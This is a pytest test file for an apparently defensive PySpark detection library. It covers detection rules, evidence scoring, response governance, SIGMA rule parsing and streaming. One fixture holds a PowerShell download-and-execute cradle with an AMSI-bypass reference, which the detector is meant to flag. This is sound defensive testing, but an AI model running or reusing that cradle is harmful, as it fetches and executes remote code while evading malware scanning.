"""Literal cases: rules, evidence, governance, coalescing, SIGMA, scalars, streams."""

import math

import pytest
from pyspark.sql import functions as F

from telarium.functions import scalars as sc
from telarium.operators import algebra as al
from telarium.operators import evidence as ev
from telarium.operators import rules, sigma
from telarium.sources import telemetry as src
from telarium.streaming import jobs


def one(spark, column, **values):
    row = spark.range(1).select(*(F.lit(v).alias(k) for k, v in values.items()))
    return row.select(column.alias("x")).first().x


def events(spark, *rows):
    names = [*src.COLUMNS]
    base = dict.fromkeys(names) | {"id": 1, "host": "h", "us": 0, "pid": 100}
    kinds = {"id": "long", "us": "long", "pid": "long", "parent_pid": "long", "exit_code": "int", "destination_port": "int", "bytes_sent": "long", "signed": "boolean", "is_local": "boolean", "k": "int"}
    data = [tuple((base | {"id": i + 1} | r)[n] for n in names) for i, r in enumerate(rows)]
    return spark.createDataFrame(data, ", ".join(f"{n} {kinds.get(n, 'string')}" for n in names))


def stateless():
    return [r for r in rules.rules() if not r.needs_facts]


def test_posteriors_of_single_rules(spark):
    want = {"encoded_powershell": 0.2667, "masquerading_outside_system32": 0.3721, "high_abuse_tld": 0.0415, "script_block_defence_evasion": 0.5677, "ransomware_extension_on_rename": 0.1502}
    pairs = {r.name: (r.tiers[-1][1], r.tiers[-1][2]) for r in rules.rules()}
    for name, p in want.items():
        hit, miss = pairs[name]
        odds = 0.01 / 0.99 * hit / miss
        assert round(odds / (1 + odds), 4) == p


def test_loader_script_and_quiet_script(spark):
    loader = {"kind": "script_block", "script_text": "IEX (New-Object Net.WebClient).DownloadString('http://h'); [Ref].Assembly.GetType('AmsiUtils')"}
    quiet = {"kind": "script_block", "script_text": "Get-Service | Where Status -eq Stopped | Start-Service"}
    found = rules.findings(events(spark, loader, quiet), stateless())
    assert {(r.id, r.rule) for r in found.collect()} == {(1, "script_block_obfuscated"), (1, "script_block_remote_fetch"), (1, "script_block_defence_evasion")}
    decided = ev.decisions(ev.evidence(found)).first()
    assert decided.action == "isolate host" and decided.verdict == "approval"


def test_null_is_not_false(spark):
    rows = [{"kind": "image_load", "path": "C:\\Users\\a\\x.dll", "signed": s} for s in (None, False, True)]
    assert [r.id for r in rules.findings(events(spark, *rows), stateless()).collect()] == [2]


def test_decay_and_coalescing(spark):
    firings = spark.createDataFrame([("h", "r", i * 10, i, True, "auto", "medium") for i in range(10)] + [("h", "r", 1000, 10, True, "auto", "medium"), ("h", "s", 5, 11, True, "auto", "low")], "host string, rule string, us long, id long, acts boolean, verdict string, severity string")
    fates = ev.coalesced(firings, window_us=500).cache()
    assert [(r.id, r.n) for r in fates.where("fate = 'emit'").orderBy("id").collect()] == [(0, 1), (10, 10)]
    assert fates.where("fate = 'fold'").count() == 9 and fates.where("fate = 'below_floor'").count() == 1
    assert ev.restated(fates).count() == 0  # nothing was folded behind the last alert
    assert [(r.rule, r.firings) for r in ev.alert_queue(fates).collect()] == [("r", 11)]
    findings = spark.createDataFrame([(1, "h", 0, 7, 0, "a", "T", 0.5, 0.05), (2, "h", 600_000_000, 7, 0, "a", "T", 0.5, 0.05)], "id long, host string, us long, pid long, ord int, rule string, technique string, hit double, miss double")
    got = {r.id: r.log_odds for r in ev.evidence(findings, 600.0).collect()}
    assert got[1] == pytest.approx(math.log(10)) and got[2] == pytest.approx(1.5 * math.log(10))


def test_evidence_over_blocks_equals_brute_force(spark):
    times = [i * 37_000_000 * (1 + i % 5) for i in range(200)]
    findings = spark.createDataFrame([(i, "h", t, 7, 0, "a", "T", 0.5, 0.05) for i, t in enumerate(times)], "id long, host string, us long, pid long, ord int, rule string, technique string, hit double, miss double")
    got = {r.id: r.log_odds for r in ev.evidence(findings, 20.0).collect()}
    order = sorted((t, i) for i, t in enumerate(times))
    total, last = 0.0, None
    for t, i in order:
        total = total * (2.0 ** (-(t - last) / 20e6) if last is not None else 0.0) + math.log(10)
        last = t
        assert got[i] == pytest.approx(total, rel=1e-9)


def test_governance(spark):
    ask = lambda level, s, rev, dis, **kw: one(spark, ev.govern(F.lit(s), F.lit(rev), F.lit(dis), level, **kw)).asDict()
    assert ask("observe", 5, True, True)["verdict"] == "denied"
    assert ask("auto", 4, True, True)["reason"] == "exceeds max_auto severity"
    assert ask("auto", 4, False, True, max_auto=5)["reason"] == "irreversible action requires approval"
    assert ask("auto", 4, True, True, max_auto=5)["verdict"] == "auto"
    assert ask("approve", 2, True, False)["verdict"] == "auto"
    assert ev.threshold() == pytest.approx(1 / 21)


def test_scalars(spark):
    assert one(spark, sc.stem(F.col("p")), p="C:\\a/B.Tar.gz") == "b.tar"
    assert [one(spark, sc.is_routable(F.col("p")), p=a) for a in ("8.8.8.8", "10.1.1.1", "100.64.0.1", "::1", "2001:4860::8888", "fe80::1", "bad")] == [True, False, False, False, True, False, False]
    assert one(spark, sc.filetime(F.col("t")), t=116_444_736_000_000_010) == 1
    assert one(spark, sc.filetime(F.col("t")), t=5) is None
    assert one(spark, sc.minimise(F.col("p")), p="ran C:\\x\\a.xlsx ok") == "ran .xlsx ok"
    assert one(spark, sc.capacity(F.col("a"), F.col("b")), a=0.72, b=0.02) == pytest.approx(0.4522, abs=1e-4)
    assert one(spark, sc.severity_band(F.col("p")), p=0.6) == "high"


def test_sigma_semantics(spark):
    rows = [{"kind": "process_start", "image": "C:\\Windows\\cmd.exe", "command_line": None}, {"kind": "process_start", "image": "C:\\Temp\\A.EXE", "command_line": "get HTTP://x"}]
    table = events(spark, *rows)
    fire = lambda detection: [r.id for r in sigma.hits(table, [sigma.compile_rule({"title": "t", "logsource": {"category": "process_creation"}, "detection": detection})]).orderBy("id").collect()]
    assert fire({"a": {"CommandLine|contains": "http"}, "condition": "a"}) == [2]
    assert fire({"a": {"CommandLine|contains": "http"}, "condition": "not a"}) == [1]
    assert fire({"a": {"Image": "*\\a.ex?"}, "condition": "a"}) == [2]
    assert fire({"a": {"CommandLine": None}, "condition": "a"}) == [1]
    assert fire({"x1": {"Image|endswith": "cmd.exe"}, "x2": {"Image|contains": "temp"}, "condition": "1 of x* and not x2"}) == [1]
    for bad in ({"a": {"Image|re": "x"}, "condition": "a"}, {"a": {"Image": "x"}, "condition": "a | count() > 3"}, {"a": {"Image": "x"}, "condition": "3 of a*"}):
        with pytest.raises(sigma.Refused):
            fire(bad)
    v6 = lambda ip, net: one(spark, sigma.cidr_test(F.col("p"), net), p=ip)
    assert v6("2001:db8::1", "2001:db8::/32") and not v6("2001:db9::1", "2001:db8::/32") and v6("2001:db8::ff", "2001:db8::f0/124")


def test_sigma_directory(spark, tmp_path):
    (tmp_path / "a.yml").write_text("title: A\nid: a1\nlevel: high\ntags: [attack.t1105]\nlogsource: {category: process_creation}\ndetection:\n  s: {Image|endswith: x}\n  condition: s\n")
    (tmp_path / "b.yaml").write_text("title: [broken\n")
    good, bad = sigma.load_directory(str(tmp_path))
    assert [r.rule_id for r in good] == ["a1"] and good[0].technique == "T1105" and [n for n, _ in bad] == ["b.yaml"]


def test_ingest_batches(spark, tmp_path):
    (tmp_path / "b.json").write_text('{"batch_id":"b1","events":[{"id":1,"host":"h","schema_version":2,"payload":"{}"},{"id":2,"host":"","schema_version":2}],"alerts":[{"id":"a","rule_id":"r"}]}\n')
    batches = src.read_batches(spark, str(tmp_path))
    assert [r.reject_reason for r in src.with_reject_reason(src.batch_events(batches)).orderBy("id").collect()] == [None, "empty host"]
    assert [(r.id, r["count"], r.status) for r in src.batch_alerts(batches).collect()] == [("a", 1, "new")]


def test_clocks(spark):
    less = lambda a, b: spark.range(1).select(al.happens_before(F.create_map(*map(F.lit, a)), F.create_map(*map(F.lit, b))).alias("x")).first().x
    assert less((1, 1), (1, 2)) and not less((1, 2), (1, 2)) and not less((1, 2, 2, 0), (1, 1, 2, 5))


def test_mttr_of_repeated_steps(spark):
    rows = [(1, 1, 14.0, False), (1, 5, 21.0, True), (1, 7, 10.0, True), (1, 7, 10.0, True), (2, 1, 37.0, True), (2, 2, 22.0, True), (2, 2, 22.0, True), (2, 4, 33.0, False), (2, 7, 5.0, True), (2, 8, 6.0, True)]
    got = al.mttr(spark.createDataFrame(rows, "incident long, step int, seconds double, parallel boolean")).collect()
    assert {r.incident: (r.mttr, r.serial) for r in got} == {1: (35.0, 55.0), 2: (76.0, 125.0)}


def test_stream_of_rules_equals_batch(spark, tmp_path):
    rows = [{"kind": "dns_query", "query_name": "a.xyz" if i % 2 else "a.com", "us": i * 1_000_000, "pid": i % 3} for i in range(30)]
    table = events(spark, *rows)
    table.coalesce(1).write.parquet(str(tmp_path / "in"))
    stream = jobs.detect(spark.readStream.schema(table.schema).parquet(str(tmp_path / "in")))
    q = stream.writeStream.format("parquet").option("path", str(tmp_path / "out")).option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
    assert q.awaitTermination(60)
    assert {r.id for r in spark.read.parquet(str(tmp_path / "out")).collect()} == {r.id for r in rules.findings(table, stateless()).collect()}


def test_entry_and_core_without_extras(spark):
    import __spark_entry__ as e

    assert e.entry(spark).count() > 0
    assert set(e.oracle_sql()) <= set(e.queries())
